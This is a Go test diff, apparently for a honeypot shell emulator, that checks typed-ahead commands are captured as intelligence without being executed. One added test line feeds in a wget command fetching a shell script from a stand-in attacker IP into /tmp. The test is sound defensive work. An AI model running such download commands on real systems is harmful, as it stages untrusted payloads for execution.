@@ -111,6 +111,11 @@ func TestLongRunningLine(t *testing.T) {
 		if r := sh.Run("echo typed-ahead > /tmp/ta"); len(r.Output) != 0 || !r.Running {
 			t.Errorf("%q: type-ahead answered %q", tc.line, r.Output)
 		}
+		// Its URLs are intel all the same, as not run.
+		if r := sh.Run("wget http://203.0.113.9/x.sh -O /tmp/x.sh"); len(r.Output) != 0 || len(r.Downloads) != 1 ||
+			r.Downloads[0].URL != "http://203.0.113.9/x.sh" || r.Downloads[0].Ran || r.Downloads[0].Tool != "wget" {
+			t.Errorf("%q: type-ahead URL: %+v", tc.line, r.Downloads)
+		}
 		if out := string(sh.Interrupt()); out != "^C\n" || sh.Busy() || sh.Prompt() != "~ # " {
 			t.Errorf("%q: ^C shows %q, prompt %q", tc.line, out, sh.Prompt())
 		}
